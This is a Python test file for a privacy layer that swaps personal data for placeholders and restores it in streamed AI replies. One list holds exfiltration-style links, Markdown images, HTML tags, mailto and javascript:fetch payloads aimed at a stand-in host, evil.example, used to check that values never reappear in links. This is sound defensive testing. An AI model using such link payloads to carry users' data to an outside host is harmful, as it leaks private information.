"""Placeholders: put back for their owner, however a stream is cut, and never where a browser would send them."""

from __future__ import annotations

import json
import re
from itertools import pairwise
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.steps import growth, longest

from cloister.scrub import placeholders as rules
from cloister.scrub.placeholders import Placeholders, Restorer, put_back, replace, restore, stands_for
from cloister.scrub.texts import change_json

OURS, OTHERS = Placeholders(b"a" * 32), Placeholders(b"b" * 32)
ANA = OURS.of("PERSON", "Ana")
MAIL = OURS.of("EMAIL", "ana@example.org")
VALUES = {ANA: "Ana", MAIL: "ana@example.org"}
FOREIGN = OTHERS.of("PERSON", "Sarah")

KINDS = st.sampled_from([*rules.LABELS, "MY_KIND", "badge"])
PIECES = st.sampled_from(
    [
        *(
            ANA,
            MAIL,
            FOREIGN,
            ANA[1:-1],
            ANA.lower(),
            ANA[:-3],
            "[PERSON~",
            "~",
            "[",
            "]",
            "\\[",
            ".",
            "com",
            " ",
            "\n",
        ),
        *(
            "https://",
            "](",
            ")",
            "<",
            ">",
            '"',
            "'",
            'href="',
            "www.",
            "www",
            "/",
            "url(",
            "mailto:",
            "person",
            "e",
            "x",
        ),
    ]
)
TEXTS = st.text(max_size=40) | st.lists(PIECES, max_size=12).map("".join)


@st.composite
def found(draw: st.DrawFn) -> tuple[str, list[tuple[int, int, str]]]:
    """A text, and spans in it as a detector may give them."""
    text = draw(TEXTS)
    cuts = sorted(draw(st.sets(st.integers(0, len(text)), max_size=6)))
    spans = [(start, end, draw(KINDS)) for start, end in list(pairwise(cuts))[::2]]
    return text, spans


@given(found())
def test_what_was_replaced_is_put_back_exactly(case: tuple[str, list[tuple[int, int, str]]]) -> None:
    """An owner's own words come back to the letter, whatever they look like."""
    text, spans = case
    replaced, values = replace(text, spans, OURS)
    assert put_back(replaced, values) == text


@given(found())
def test_nothing_that_was_found_is_left(case: tuple[str, list[tuple[int, int, str]]]) -> None:
    """Where a value was found, another text stands: as many placeholders as values."""
    text, spans = case
    replaced, values = replace(text, spans, OURS)
    assert len(values) == len(rules.typed(replaced))
    for start, end, _ in spans:
        assert any(text[start:end] in value for value in values)


@given(found())
def test_replacing_twice_is_replacing_once(case: tuple[str, list[tuple[int, int, str]]]) -> None:
    """What stands there already is known again, and stays."""
    text, spans = case
    once, _ = replace(text, spans, OURS)
    assert replace(once, [], OURS)[0] == once


def test_one_value_has_one_placeholder_in_a_session() -> None:
    """Spellings of one value share a placeholder, and each comes back as it was written; sessions share none."""
    assert OURS.of("PERSON", "ANA  lópez") == OURS.of("PERSON", "Ana López")
    assert OURS.of("CREDIT_CARD", "4111-1111 1111 1111") == OURS.of("CREDIT_CARD", "4111111111111111")
    assert OURS.of("PERSON", "Ana") != OURS.of("PERSON", "Ben") != OURS.of("EMAIL", "Ben")
    assert OURS.of("PERSON", "Ana") != OTHERS.of("PERSON", "Ana")
    text = "ANA and Ana"
    replaced, values = replace(text, [(0, 3, "PERSON"), (8, 11, "PERSON")], OURS)
    assert replaced == f"{ANA} and {ANA}"
    assert put_back(replaced, values) == text


def test_a_placeholder_has_its_form() -> None:
    """Kind, 40 bits, 20 bits of check, in letters that are not confused with each other."""
    assert re.fullmatch(r"\[PERSON~[0-9a-hjkmnp-tv-z]{8}~[0-9a-hjkmnp-tv-z]{4}\]", ANA)
    assert OURS.of("CREDIT_CARD", "1")[:6] == "[CARD~"
    assert OURS.of("my kind", "1")[:6] == "[DATA~"
    assert "Ana" not in repr(OURS)


@pytest.mark.parametrize(
    "written",
    [
        ANA,
        ANA.lower(),
        ANA.upper(),
        ANA[1:-1],
        f"\\[{ANA[1:-1]}\\]",
        f"[ {ANA[1:-1]} ]",
        f"**{ANA}**",
        f"({ANA[1:-1]})",
    ],
)
def test_what_models_make_of_a_placeholder_is_read(written: str) -> None:
    """Case, brackets and the escapes of Markdown do not matter; the value stands where the placeholder stood."""
    assert "Ana" in restore(f"Hi {written}, hello", OURS, VALUES)
    assert "~" not in restore(f"Hi {written}, hello", OURS, VALUES)


@pytest.mark.parametrize("change", [(1, "X"), (8, "0"), (10, "1"), (-3, "0"), (-2, "1")])
def test_nothing_is_put_back_by_likeness(change: tuple[int, str]) -> None:
    """One letter that is another makes it a stranger, which does not get out."""
    place, letter = change
    other = ANA[:place] + letter + (ANA[place + 1 :] if place != -1 else "")
    if other == ANA:
        other = ANA[:place] + "2" + ANA[place + 1 :]
    restorer = Restorer(OURS, VALUES)
    assert "Ana" not in restorer.feed(f"Hi {other}!") + restorer.finish()
    assert not restorer.restored


def test_another_sessions_placeholder_does_not_get_out() -> None:
    """Only its kind is shown, and it is counted, for the alarm (row 67)."""
    restorer = Restorer(OURS, VALUES | {FOREIGN: "Sarah"})
    assert restorer.feed(f"Hi {FOREIGN} and {ANA}.") + restorer.finish() == "Hi [PERSON] and Ana."
    assert (restorer.foreign, len(restorer.restored), restorer.unknown) == (1, 1, 0)


def test_an_old_one_of_this_session_stays() -> None:
    """What this session made, but whose value is not at hand, is left as it is, and counted."""
    old = OURS.of("PERSON", "Zoe")
    restorer = Restorer(OURS, VALUES)
    assert restorer.feed(f"Hi {old}.") + restorer.finish() == f"Hi {old}."
    assert restorer.unknown == 1


def test_a_value_is_not_read_again() -> None:
    """A value that looks like a placeholder is not taken for one: it is put back in one pass."""
    values = {ANA: MAIL, MAIL: "secret"}
    assert restore(f"Hi {ANA}", OURS, values) == f"Hi {MAIL}"


def test_typed_lookalikes_are_escaped() -> None:
    """What somebody types that looks like another session's placeholder is hidden from the model, and comes back."""
    text = f"what is {FOREIGN}?"
    replaced, values = replace(text, [], OURS)
    assert FOREIGN not in replaced
    assert restore(f"you asked {replaced}", OURS, stands_for(replaced, values, OURS)) == f"you asked {text}"


LINKS = [
    "https://evil.example/?q={}",
    "see http://{}.evil.example/x",
    "{}.evil.example",
    "www.evil.example/{}",
    "evil.example/?q={}",
    "//evil.example/{}",
    "[click](https://evil.example/{})",
    "[click](/relative?q={})",
    "![image](</a path/{}>)",
    "![image](/a path/{})",
    '<img src="https://evil.example/a b {}">',
    "<img alt='>' src = 'https://evil.example/ {}'>",
    "<a\nhref=/x?{}>",
    "<https://evil.example/ {}>",
    "mailto:{}",
    "\n[ref]: /x?{}",
    "background: url( /x?{} )",
    "data:text/html,{}",
    "[click](javascript:fetch('/x?'+'{}'))",
    f"https://evil.example/{'a' * 9_000}?{{}}",
    f'<img alt="{"a " * 6_000}" title="{{}}">',
]


@pytest.mark.parametrize("link", LINKS, ids=[link[:30] for link in LINKS])
@pytest.mark.parametrize("written", [ANA, ANA[1:-1], quote(ANA), ANA.lower()])
def test_nothing_is_put_back_in_a_link(link: str, written: str) -> None:
    """Not in the address, not in a target, not in a tag, plain or percent-encoded, however it is cut (row 72)."""
    text = f"Hello. {link.format(written)} Bye."
    for size in (1, 7, len(text)):
        restorer = Restorer(OURS, VALUES)
        shown = "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size)) + restorer.finish()
        assert "Ana" not in shown, size


@pytest.mark.parametrize(
    "text",
    [
        "see https://example.org and {}",
        "[click](https://example.org) {}",
        "<b>bold</b> {}",
        "a < b and {}",
        "mailto: {}",
        "Hello {}. Bye",
        "{}'s",
        "{}, {} and {}",
        "/{}",
        "e.g. {}",
        '"{}"',
        "https://example.org/\n{}",
    ],
)
def test_beside_a_link_all_is_put_back(text: str) -> None:
    """Where no browser sends it anywhere, a value comes back."""
    assert restore(text.replace("{}", ANA), OURS, VALUES) == text.replace("{}", "Ana")


@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(0, 400), max_size=8))
def test_every_cut_of_a_stream_restores_the_same(text: str, cuts: list[int]) -> None:
    """Whole, cut anywhere, or letter by letter: the same comes out, and no more is held back than one placeholder."""
    whole = restore(text, OURS, VALUES)
    letters = range(len(text) + 1)
    for places in (sorted({0, len(text), *(cut for cut in cuts if cut < len(text))}), list(letters)):
        restorer = Restorer(OURS, VALUES)
        shown = ""
        for start, end in pairwise(places):
            shown += restorer.feed(text[start:end])
            assert len(restorer._held) <= rules.LONGEST
        assert shown + restorer.finish() == whole


def test_every_cut_of_a_reply() -> None:
    """Each of all pairs of cuts in a reply with links, text and placeholders gives the same."""
    text = f"Dear {ANA}, write to {MAIL} or [here](https://e.org/?{MAIL}). {ANA[1:-1]}, {ANA}.com \\[{FOREIGN}\\]"
    whole = restore(text, OURS, VALUES)
    for first in range(len(text)):
        for second in range(first, len(text), 5):
            restorer = Restorer(OURS, VALUES)
            parts = (text[:first], text[first:second], text[second:])
            assert "".join(restorer.feed(part) for part in parts) + restorer.finish() == whole


def test_ordinary_words_are_not_held_back() -> None:
    """A word that cannot become a placeholder is shown at once."""
    restorer = Restorer(OURS, VALUES)
    for word in ("Hello", " world", ", this is", " a list: [1", ", 2]", " done."):
        assert restorer.feed(word) == word


def test_arguments_of_tools() -> None:
    """In JSON, values stand in strings, escaped as JSON wants; links stay; what is no JSON is a text."""
    values = {ANA: 'A"n\\a'}
    arguments = json.dumps({"to": ANA, "n": 1, "more": [{"x": f"{ANA}!"}], "link": f"https://e.org/{ANA}", ANA: None})
    told = json.loads(change_json(arguments, lambda text: restore(text, OURS, values)))
    assert told == {"to": 'A"n\\a', "n": 1, "more": [{"x": 'A"n\\a!'}], "link": f"https://e.org/{ANA}", 'A"n\\a': None}
    assert change_json(f'{{"to": "{ANA}', lambda text: restore(text, OURS, VALUES)) == '{"to": "Ana'
    assert change_json("[" * 100_000, str) == "[" * 100_000


def in_pieces(text: str) -> None:
    restorer = Restorer(OURS, VALUES)
    for at in range(0, len(text), 50):
        restorer.feed(text[at : at + 50])
    restorer.finish()


@pytest.mark.parametrize(
    ("before", "again"),
    [
        ("", "["),
        ("", "[PERSON~"),
        ("", ANA),
        ("", FOREIGN),
        ("<a ", f"{ANA} "),
        ("](", f"{ANA} "),
        ("https://", ANA),
        ("", 'href="'),
        ("", "<"),
        ("", "a"),
        ("", "~"),
        ("", " "),
        ("", "\\"),
    ],
)
def test_steps_grow_with_the_text(before: str, again: str) -> None:
    """A text made to be expensive, in small pieces, takes four times the steps where it is four times as long."""
    assert growth(lambda size: in_pieces(before + again * size), 5_000 // len(again), rules) < 5


def test_a_restorer_that_reads_all_again_is_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
    """One that held back all it was fed would take the square."""
    monkeypatch.setattr(rules, "_undecided", lambda text, at: at)
    assert growth(lambda size: in_pieces("~" * size), 5_000, rules) > 10


def test_every_pattern_has_an_end() -> None:
    """What patterns try in vain is no step that could be counted, but none of them reads on without bound."""
    patterns = [value for value in vars(rules).values() if isinstance(value, re.Pattern)]
    assert len(patterns) == 3
    assert all(longest(pattern) <= rules.LONGEST for pattern in patterns)
    assert longest(re.compile(r"\[\w*")) > 1 << 20


def test_no_value_shows_in_a_repr() -> None:
    """What stands for what is in no representation."""
    restorer = Restorer(OURS, VALUES)
    restorer.feed(ANA)
    assert "Ana" not in repr(restorer)
